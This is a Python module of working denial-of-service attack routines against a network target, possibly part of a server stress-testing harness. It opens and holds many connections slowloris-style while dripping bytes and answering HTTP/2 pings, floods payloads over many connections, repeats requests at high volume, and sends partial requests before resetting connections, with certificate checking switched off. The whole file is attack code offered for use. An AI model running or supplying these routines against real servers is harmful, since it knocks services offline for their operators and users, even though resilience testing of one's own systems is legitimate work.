"""Attacks with many connections to one target: hold them, flood through them, repeat requests, reset them. One
thread with non-blocking sockets."""

import collections
import select
import socket
import ssl
import time

import http2_frames

SLICE = 1 << 16


class Target:
    """The attacked address, with TLS or without."""

    def __init__(self, address, tls=None):
        host, port = address.split(":")
        self.address, self.alpn = (host, int(port)), tls
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        if tls:
            self.context.set_alpn_protocols([tls])

    def connect(self, window=None):
        """Opens a non-blocking connection. `window`: size of the receive buffer."""
        plain = socket.socket()
        if window:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        plain.settimeout(20)
        plain.connect(self.address)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection = self.context.wrap_socket(plain) if self.alpn else plain
        connection.setblocking(False)
        return connection


WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def send(connection, data):
    """Sends as many bytes as fit into the socket's buffer; returns their number."""
    try:
        return connection.send(data)
    except WOULD_BLOCK:
        return 0


def receive(connection):
    """Returns received data, or None; raises OSError when the peer has closed."""
    try:
        data = connection.recv(SLICE)
    except WOULD_BLOCK:
        return None
    if not data:
        raise ConnectionResetError
    return data


class HeldConnection:
    """A connection that the attacker keeps open."""

    def __init__(self, target, opening, answers_pings):
        self.connection, self.left = target.connect(), opening
        self.reader = http2_frames.Reader() if answers_pings else None

    def step(self, drip):
        """Answers pings and sends the next bytes; raises OSError when the peer has closed."""
        data = receive(self.connection)
        for kind, flags, _, payload in self.reader.frames(data or b"") if self.reader else ():
            if kind == http2_frames.PING and not flags & http2_frames.ACK:
                self.left += http2_frames.frame(http2_frames.PING, http2_frames.ACK, payload=payload)
        if drip and not self.left:
            self.left = drip
        self.left = self.left[send(self.connection, self.left):] if self.left else self.left


def hold(target, connections, seconds, opening, drip=b"", every=0.2, answers_pings=False):
    """Opens connections and holds them until the peer closes them."""
    began = time.monotonic()
    held = [HeldConnection(target, opening, answers_pings) for _ in range(connections)]
    closed, last = 0, 0.0
    while held and time.monotonic() - began < seconds:
        still = []
        for one in held:
            try:
                one.step(drip)
                still.append(one)
            except OSError:
                one.connection.close()
                closed, last = closed + 1, time.monotonic() - began
        held = still
        time.sleep(every)
    return {"tried": connections, "closed": closed, "last": round(last, 1)}


def flood(target, connections, seconds, opening, payload, reads=True):
    """Sends the opening and then the payload over and over, on new connections where one is closed. Without
    reading, it ends early, when as many were closed as it holds."""
    end = time.monotonic() + seconds
    tried, sent = 0, 0
    active = {}
    while time.monotonic() < end and (reads or tried < 2 * connections):
        while len(active) < connections:
            active[target.connect(None if reads else 2048)] = memoryview(opening + payload)
            tried += 1
        readable, writable, _ = select.select(list(active) if reads else [], list(active), [], 0.1)
        for connection in {*readable, *writable}:
            try:
                if reads:
                    receive(connection)
                count = send(connection, active[connection][:SLICE * 4])
                sent += count
                active[connection] = active[connection][count:] or memoryview(payload)
            except OSError:
                del active[connection]
                connection.close()
    return {"tried": tried, "sent_mib": sent >> 20}


def request_repeatedly(target, connections, count, request):
    """Sends requests, each on a new connection; counts the responses by status."""
    answers = collections.Counter()
    active, begun, poll = {}, 0, select.epoll()
    while begun < count or active:
        while len(active) < connections and begun < count:
            begun += 1
            connection = target.connect()
            left = request[send(connection, request):]
            poll.register(connection, select.EPOLLIN | (select.EPOLLOUT if left else 0))
            active[connection.fileno()] = connection, left
        for number, _ in poll.poll(0.1):
            connection, left = active[number]
            answer = None
            try:
                answer = receive(connection)
                if not answer:
                    left = left[send(connection, left):] if left else left
                    poll.modify(connection, select.EPOLLIN | (select.EPOLLOUT if left else 0))
                    active[number] = connection, left
                    continue
            except OSError:
                pass
            answers[status(answer)] += 1
            del active[number]
            connection.close()
    return {"tried": begun, "answers": dict(answers)}


def status(answer):
    """Returns the status of a response, or what it is instead."""
    if not answer:
        return "closed"
    return answer[9:12].decode("latin-1") if answer.startswith(b"HTTP/1.1 ") else "no HTTP"


def abort(target, count, beginning):
    """Sends the beginning of a request and resets the connection."""
    for _ in range(count):
        connection = target.connect()
        send(connection, beginning)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        connection.close()
    return {"tried": count}
